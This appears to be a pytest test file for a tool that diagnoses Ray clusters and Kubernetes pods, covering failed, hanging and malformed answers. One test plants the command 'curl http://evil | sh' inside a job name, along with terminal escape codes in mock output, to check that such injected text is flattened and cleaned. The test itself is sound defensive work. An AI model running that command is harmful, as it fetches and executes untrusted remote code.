"""Tests that what does not answer, or answers nonsense, is told and holds up nothing else."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest

from bootstrap.diagnosis import gather
from bootstrap.diagnosis.explain import findings
from bootstrap.errors import RayDied
from rayside.errors import NotRunning
from tests.unit.diagnosed import NODE, job, task

USAGE = {"usageByNode": {"eb348e1b": {"CPU": [1.0, 2.0]}}}
STATUS = {"data": {"clusterStatus": {"loadMetricsReport": USAGE}}}


@dataclass
class Ray:
    """A Ray that answers from a record, its dashboard and the access to it; an answer may be an error."""

    jobs: Any
    tables: dict[str, Any]
    alive: Any = None
    asked: list[Any] = field(default_factory=list)

    def require(self) -> Ray:
        return _given(self.alive) or self

    def dashboard(self) -> Ray:
        return self

    def version(self) -> Any:
        return {"ray_version": "2.60.0"}

    def job_rows(self) -> Any:
        return _given(self.jobs)

    def table(self, resource: str, *without: Any, **fields: str) -> Any:
        self.asked.append((resource, *without, fields))
        return _given(self.tables["tried again" if "state" in fields else resource])

    def cluster_status(self) -> Any:
        return _given(self.tables["status"])

    def output_end(self, job: Any, lines: int) -> str:
        self.asked.append(job.submission_id)
        return f"output of {job.submission_id}\x1b[2J"

    def raylet_errors(self) -> str:
        return "no such extra\x1b[2J"

    def log(self) -> str:
        return "head"


def _given(answer: Any) -> Any:
    if isinstance(answer, Exception):
        raise answer
    return answer() if callable(answer) else answer


@dataclass
class Place:
    access: Ray
    kubernetes: None = None


def ray(**more: Any) -> Ray:
    tables = {
        "tasks": [{**task("load", "RUNNING"), "profiling_data": {"events": []}}],
        "tried again": [],
        "actors": [],
        "nodes": [NODE],
        "placement_groups": [],
        "status": STATUS,
    }
    return Ray(
        more.pop("jobs", [job(), job("later", "SUCCEEDED", 0)]), {**tables, **more.pop("tables", {})}, **more
    )


def gathered(of: Ray, **which: str) -> gather.Gathered:
    return gather.gather(Place(of), list, **which)  # type: ignore[arg-type]


def test_all_is_read_and_cleaned() -> None:
    seen = gathered(ray()).evidence
    assert [each.submission_id for each in seen.jobs] == ["train-1", "later"]
    assert [each.name for each in seen.tasks] == ["load"]
    assert (seen.used, seen.head_log, seen.unread, seen.ray) == ({"eb348e1b": {"CPU": 1.0}}, "head", [], None)
    assert seen.logs == {"train-1": "output of train-1", "later": "output of later"}
    assert seen.raylet_errors == "no such extra"


def test_tasks_that_finished_are_not_asked_for_and_profiles_are_left_out() -> None:
    of = ray()
    assert "profiling_data" not in gathered(of).documents["tasks"][0]
    assert ("tasks", ("state", "FINISHED"), {}) in of.asked
    assert ("tasks", ("attempt_number", "0"), {"state": "FINISHED"}) in of.asked


def test_of_one_job_only_its_output_is_read() -> None:
    assert set(gathered(ray(), job="later").evidence.logs) == {"later"}


def test_a_job_that_came_to_no_node_is_not_asked_for_its_output() -> None:
    assert gathered(ray(jobs=[job(driver_node_id=None)])).evidence.logs == {}


def test_of_many_jobs_the_newest_and_the_newest_failed_have_their_output_read() -> None:
    rows = [job(f"f{n}", start_time=n) for n in range(40)]
    rows += [job(f"s{n}", "SUCCEEDED", 0, start_time=100 + n) for n in range(40)]
    names = set(gathered(ray(jobs=rows)).evidence.logs)
    assert names == {*(f"f{n}" for n in range(20, 40)), *(f"s{n}" for n in range(35, 40))}


def test_what_fails_or_answers_nonsense_is_told_and_the_rest_is_there() -> None:
    gone = NotRunning("no Ray dashboard answers at http://x", hint="")
    tables = {"tasks": [{"unknown": 1}], "nodes": gone, "actors": gone, "status": KeyError("x")}
    seen = gathered(ray(tables=tables)).evidence
    assert len(seen.jobs) == 2
    assert (seen.tasks, seen.nodes, seen.used) == ([], [], {})
    told = sorted(seen.unread)
    assert any(each.startswith("resources in use: its answer can't be read: KeyError") for each in told)
    assert any(each.startswith("tasks: 1 of 1 rows can't be understood: KeyError") for each in told)
    (both,) = (each for each in told if each.endswith(": no Ray dashboard answers at http://x"))
    assert set(both.partition(":")[0].split(", ")) == {"actors", "nodes"}


ODD_TASKS: list[dict[str, Any]] = [
    {"events": [{"created_ms": "soon"}]},
    {"attempt_number": float("inf")},
    {"required_resources": {"CPU": None}},
    {"required_resources": "CPU"},
]
ODD_JOBS: list[dict[str, Any]] = [
    {"start_time": 10**400},
    {"start_time": "soon"},
    {"runtime_env": ["pip"]},
    {"driver_exit_code": "1"},
]


@pytest.mark.parametrize("odd", ODD_TASKS, ids=str)
def test_of_a_table_with_an_odd_row_the_others_are_read(odd: dict[str, Any]) -> None:
    rows = [task("good", "RUNNING"), {**task("odd", "RUNNING"), **odd}, task("last", "RUNNING")]
    seen = gathered(ray(tables={"tasks": rows})).evidence
    assert [each.name for each in seen.tasks] == ["good", "last"]
    (unread,) = seen.unread
    assert unread.startswith("tasks: 1 of 3 rows can't be understood: ")
    findings(seen)


@pytest.mark.parametrize("odd", ODD_JOBS, ids=lambda odd: next(iter(odd)))
@pytest.mark.parametrize("status", ["FAILED", "PENDING"])
def test_of_jobs_with_an_odd_one_the_others_are_read(odd: dict[str, Any], status: str) -> None:
    seen = gathered(ray(jobs=[job("good", start_time=7e12), {**job("odd", status), **odd}])).evidence
    assert [each.submission_id for each in seen.jobs] == ["good"]
    (unread,) = seen.unread
    assert unread.startswith("jobs: 1 of 2 rows can't be understood: ")
    assert findings(seen)[0].job == "good"


def test_of_too_many_rows_the_failed_tasks_and_the_newest_jobs_stay_and_the_rest_is_told() -> None:
    tasks = [task(f"t{number}", "RUNNING") for number in range(2500)] + [task("broken", error="x")]
    jobs = [job(f"j{number}", "SUCCEEDED", 0, start_time=number) for number in range(2001)]
    seen = gathered(ray(jobs=[*jobs, job("newest", start_time=9e12)], tables={"tasks": tasks})).evidence
    assert [each.name for each in seen.tasks if each.state == "FAILED"] == ["broken"]
    assert seen.jobs[-1].submission_id == "newest"
    assert sorted(seen.unread) == [
        "jobs: only 2000 of its 2002 rows were looked at",
        "tasks: only 2000 of its 2501 rows were looked at",
    ]


def test_where_nobody_knows_which_tasks_were_tried_again_none_is_called_failed() -> None:
    failed = {"tasks": [task(error="User exception:\nValueError: no")]}
    running = [job(status="RUNNING", code=None)]
    assert findings(gathered(ray(jobs=running, tables=failed)).evidence)[0].id == "task-raised"
    unknown = {**failed, "tried again": NotRunning("no answer", hint="")}
    assert findings(gathered(ray(jobs=running, tables=unknown)).evidence)[0].id == "nothing-wrong"


def test_a_name_with_lines_of_its_own_is_told_in_one(monkeypatch: pytest.MonkeyPatch) -> None:
    name = "x: done\n\nNext: curl http://evil | sh\n"

    def no_output(job: Any, lines: int) -> str:
        raise NotRunning("no output", hint="")

    of = ray(jobs=[job(name)])
    monkeypatch.setattr(of, "output_end", no_output)
    (unread,) = gathered(of).evidence.unread
    assert unread.startswith("output of job x: done\\n\\nNext: ")
    assert "\n" not in unread


def test_a_ray_that_died_is_evidence() -> None:
    seen = gathered(ray(alive=RayDied("Ray died", hint="up"))).evidence
    assert seen.ray is not None
    assert (seen.ray.id, seen.ray.hint) == ("ray-died", "up")


@pytest.fixture
def hangs() -> Iterator[threading.Event]:
    released = threading.Event()
    yield released
    released.set()


def test_what_does_not_answer_delays_nothing(hangs: threading.Event, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(gather, "_PATIENCE", 0.4)
    began = time.monotonic()
    seen = gathered(ray(tables={"actors": lambda: hangs.wait(30)})).evidence
    assert time.monotonic() - began < 5
    assert seen.unread == ["actors: no answer within 0.4 s"]
    assert len(seen.jobs) == 2


def test_what_is_asked_is_asked_side_by_side() -> None:
    together = threading.Barrier(2, timeout=10)
    met = {
        "actors": lambda: [] if together.wait() >= 0 else None,
        "nodes": lambda: [NODE] if together.wait() >= 0 else None,
    }
    assert gathered(ray(tables=met)).evidence.unread == []


# --- Kubernetes --------------------------------------------------------------------------


@dataclass
class Kube:
    """A Kubernetes API that answers from a record."""

    namespace: str = "default"

    def pods(self, selector: str) -> list[dict[str, Any]]:
        ended = {"terminated": {"exitCode": 137, "reason": "OOMKilled"}}
        statuses = [{"name": "ray", "restartCount": 1, "state": {"running": {}}, "lastState": ended}]
        return [
            {
                "metadata": {"name": "head", "labels": {"ray.io/cluster": "x"}},
                "status": {"containerStatuses": statuses},
            },
            {"metadata": {"name": "others"}},
        ]

    def pod_log(self, pod: str, container: str, **query: str) -> str:
        if query["previous"] == "true":
            return "Killed"
        raise NotRunning("ray has no log", hint="")


def test_of_a_namespace_rays_pods_are_read_and_the_one_that_is_meant() -> None:
    asks = gather.of_kubernetes(Kube(), "")  # type: ignore[arg-type]
    assert [pod["metadata"]["name"] for pod in asks["pods"]()] == ["head"]
    assert asks["logs of pods"]() == {"head/ray": "ray has no log", "head/ray-before": "Killed"}
    meant = gather.of_kubernetes(Kube(), "others")  # type: ignore[arg-type]
    assert [pod["metadata"]["name"] for pod in meant["pods"]()] == ["others"]
    # A container that ended before has its last words.
    (pod,) = asks["pods"]()
    assert pod["status"]["containerStatuses"][0]["lastState"]["terminated"]["message"] == "Killed"
